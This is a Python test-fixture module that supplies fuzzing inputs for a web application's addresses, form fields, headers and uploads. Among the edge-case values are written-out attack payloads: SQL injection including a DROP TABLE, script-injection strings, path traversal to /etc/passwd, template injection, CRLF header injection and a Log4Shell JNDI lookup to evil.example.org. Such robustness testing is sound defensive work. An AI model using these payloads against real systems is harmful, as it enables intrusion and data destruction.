"""What people, programs and attackers put into addresses and fields."""

from uuid import uuid4

from hypothesis import strategies as st

HUGE = "x" * 100_000
WORDS: tuple[str, ...] = (
    "", " ", "0", "-1", "1.5", "1e400", "NaN", "Infinity", "-0", "99999999999999999999999999", "1" * 5000, "٣", "²",
    "\x00", "a\x00b", "\ufffd", "\u202egnp.exe", "\u200b", "é" * 300, "𝔘𝔫𝔦", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "0000-00-00", "9999-99-99", "9999-12-31", "0001-01-01", "10000-01-01", "2026-02-30", "2026-13-01", "1-1-1",
    "12/31/9999", "true", "null", "None", "[]", "{}", "undefined", "on", "../../etc/passwd", "%00", "%s%n", "${7*7}",
    "{{ 7*7 }}", "{% now 'Y' %}", "<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "' OR 1=1 --",
    "'); DROP TABLE commitments_user; --", "1 UNION SELECT NULL--", "${jndi:ldap://evil.example.org/a}", '{"a": [1, {"b": null}]}',
    "[" * 2000, "\u2066\u0627\u0644\u0645", "Z\u0351\u036b" * 60, "2026-06-01T25:61:61Z", "2026-W60-9", "1e-999999999",
    "javascript:alert(1)", "//evil.example.org/", "http://[::1", "http://evil.example.org:99999/", "=1+1", "\r\nSet-Cookie: a=b",
    "😀" * 100, "&&||!!:*", "((((", "\\", "a\\", "'", '"', str(uuid4()), "00000000-0000-0000-0000-000000000000", "not-a-uuid",
    "D17", "d17", "D0", "D-1", "D9999999999", "OP5", "THA", "tha", "KEN", "ZZZ", "A-RES-60-177/D17", "A-RES-60-177/", "/",
    "en", "xx", "public", "own_state", "not_reported", "not_applicable", "named", HUGE,
)  # fmt: skip

RAW_QUERIES: tuple[bytes, ...] = (
    b"q=%FF%FE&cycle=%FF&page=%FF&for=%C0%80&lang=%FF",
    b"q=\xff\xfe&page=\xff",
    b"page=1&page=-1&page=abc&q=a&q=&cycle=a&cycle=b",
    b"&&&&===&=&%",
    b"q[]=1&q[$ne]=1&page[0]=2",
    b"page=%00&q=%00&cycle=%00&for=%00&group=%00&as_of=%00&lang=%00",
)

BODIES: tuple[tuple[str, bytes], ...] = (
    ("application/json", b"{"),
    ("application/json", b'{"title": 1}'),
    ("text/plain; charset=no-such-charset", b"a=b"),
    ("application/x-www-form-urlencoded; charset=utf-16", b"\xff\xfea\x00=\x00b\x00"),
    ("application/x-www-form-urlencoded", b"title=%FF%FE&narrative=%C0%80&expected=%FF"),
    ("application/x-www-form-urlencoded", b"a=b&" * 6000),
    ("multipart/form-data", b"no boundary"),
    ("multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="title"\r\n\r\nhalf'),
    ("multipart/form-data; boundary=" + "x" * 300, b"--x--"),
    ("multipart/form-data; boundary=x",
     b'--x\r\nContent-Disposition: form-data; name="documents"; filename="../../a\x00.pdf"\r\n\r\n%PDF\r\n--x--\r\n'),
    ("multipart/form-data; boundary=x",
     b'--x\r\nContent-Disposition: form-data; name="title"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!\r\n--x--\r\n'),
    ("application/offset+octet-stream", b"bytes"),
    ("", b"\x00\x01\x02"),
)  # fmt: skip

HEADERS: tuple[dict[str, str], ...] = (
    {"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "panel"},
    {"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "results", "HTTP_HX_CURRENT_URL": "http://[::1"},
    {"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "<script>", "HTTP_HX_TRIGGER_NAME": "%FF", "HTTP_HX_BOOSTED": "true"},
    {
        "HTTP_HX_REQUEST": "true",
        "HTTP_HX_TARGET": "x" * 3000,
        "HTTP_HX_PROMPT": "\x7f",
        "HTTP_HX_HISTORY_RESTORE_REQUEST": "true",
    },
    {"HTTP_ACCEPT_LANGUAGE": "ar,xx;q=NaN,*;q=99,,;"},
    {"HTTP_ACCEPT_LANGUAGE": "a-" * 2000},
    {"HTTP_ACCEPT_LANGUAGE": "fr", "HTTP_COOKIE": "django_language=../../etc; csrftoken=\u00ff; =; sessionid"},
    {"HTTP_IF_NONE_MATCH": "*"},
    {"HTTP_IF_NONE_MATCH": 'W/"nonsense", "' + "0" * 5000},
    {"HTTP_IF_MODIFIED_SINCE": "Thu, 99 Nov 99999 25:61:61 GMT"},
    {"HTTP_IF_MATCH": '"x"', "HTTP_IF_UNMODIFIED_SINCE": "never"},
    {"HTTP_RANGE": "bytes=99999999999999999999-"},
    {"HTTP_RANGE": "bytes=-1,5-2,a-b"},
    {"HTTP_RANGE": "bytes=0-0", "HTTP_IF_RANGE": "x"},
    {"HTTP_ACCEPT": "application/json"},
    {"HTTP_ACCEPT": "text/html;q=x, */*;q=-1"},
    {"HTTP_ACCEPT_ENCODING": "gzip;q=0, br, *"},
    {"HTTP_HOST": "testserver:99999"},
    {"HTTP_HOST": "evil.example.org"},
    {"HTTP_ORIGIN": "null", "HTTP_REFERER": "http://[::1"},
    {"HTTP_X_FORWARDED_FOR": "not an address, \u00ff", "HTTP_X_FORWARDED_PROTO": "gopher", "REMOTE_ADDR": "::1%eth0"},
    {"HTTP_X_REQUESTED_WITH": "XMLHttpRequest"},
    {"HTTP_X_HTTP_METHOD_OVERRIDE": "DELETE", "HTTP_EXPECT": "200-maybe", "HTTP_UPGRADE": "h2c"},
    {"HTTP_AUTHORIZATION": "Basic \u00ff", "HTTP_USER_AGENT": "\u00ff" * 2000},
    {"HTTP_CONTENT_ENCODING": "gzip", "HTTP_TRANSFER_ENCODING": "chunked"},
)
"""What a program or an attacker says beside the address, as the server hands it on."""

UPLOADS: tuple[dict[str, str], ...] = (
    {"HTTP_UPLOAD_OFFSET": "0"},
    {"HTTP_UPLOAD_OFFSET": "5"},
    {"HTTP_UPLOAD_OFFSET": "-1"},
    {"HTTP_UPLOAD_OFFSET": "9" * 15},
    {"HTTP_UPLOAD_OFFSET": "9" * 30},
    {"HTTP_UPLOAD_OFFSET": "\u00b2"},
    {},
    {"HTTP_UPLOAD_LENGTH": "10", "HTTP_UPLOAD_METADATA": "filename YS5wZGY="},
    {"HTTP_UPLOAD_LENGTH": "10", "HTTP_UPLOAD_METADATA": "filename YS5wZGY=,request_id bm90LWEtdXVpZA=="},
    {"HTTP_UPLOAD_LENGTH": "0", "HTTP_UPLOAD_METADATA": "filename YS5wZGY="},
    {"HTTP_UPLOAD_LENGTH": "999999999999999", "HTTP_UPLOAD_METADATA": "filename YS5wZGY="},
    {"HTTP_UPLOAD_LENGTH": "1e3", "HTTP_UPLOAD_METADATA": "filename"},
    {"HTTP_UPLOAD_LENGTH": "10", "HTTP_UPLOAD_METADATA": "filename AA=="},
    {"HTTP_UPLOAD_LENGTH": "10", "HTTP_UPLOAD_METADATA": "filename //79,,, =, filename !!!"},
    {"HTTP_UPLOAD_LENGTH": "10", "HTTP_UPLOAD_METADATA": "filename " + "YWFh" * 5000},
)
"""What a sender says of his upload."""

anything = st.sampled_from(WORDS) | st.text(max_size=40).filter(
    lambda text: not any("\ud800" <= c <= "\udfff" for c in text)
)
